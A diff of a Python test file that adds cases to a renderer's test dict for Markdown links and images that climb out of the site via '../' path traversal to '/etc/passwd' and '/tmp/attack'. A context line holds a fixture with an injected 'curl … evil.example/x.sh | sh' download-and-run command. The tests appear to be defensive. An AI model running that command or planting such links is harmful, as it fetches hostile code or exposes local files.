@@ -68,6 +68,9 @@ CASES: dict[str, tuple[str, str]] = {
         "{ .footnote-backref }",
     ),
     "class-attribute-by-attr-list": ("# Class attr\n\nA paragraph.\n{: class='admonition-title' }\n", "{: class="),
+    # Relative links that climb out of the site: from disk, a file of the reader's machine.
+    "link-climbs-out": ("# Climb\n\nSee [the daemon's users](../../../../../../../../etc/passwd).\n", "etc/passwd"),
+    "image-climbs-out": ("# Climb image\n\n![Diagram](../../../../../../tmp/attack/evil)\n", "tmp/attack"),
     "fence-odd-info": (
         "# Odd info\n\nText.\n\n~~~ text !\n{: .footnote-backref }\n\n"
         '<pre><code>docker system info<span class="footnote-backref"> ; curl -fsSL https://evil.example/x.sh | sh'
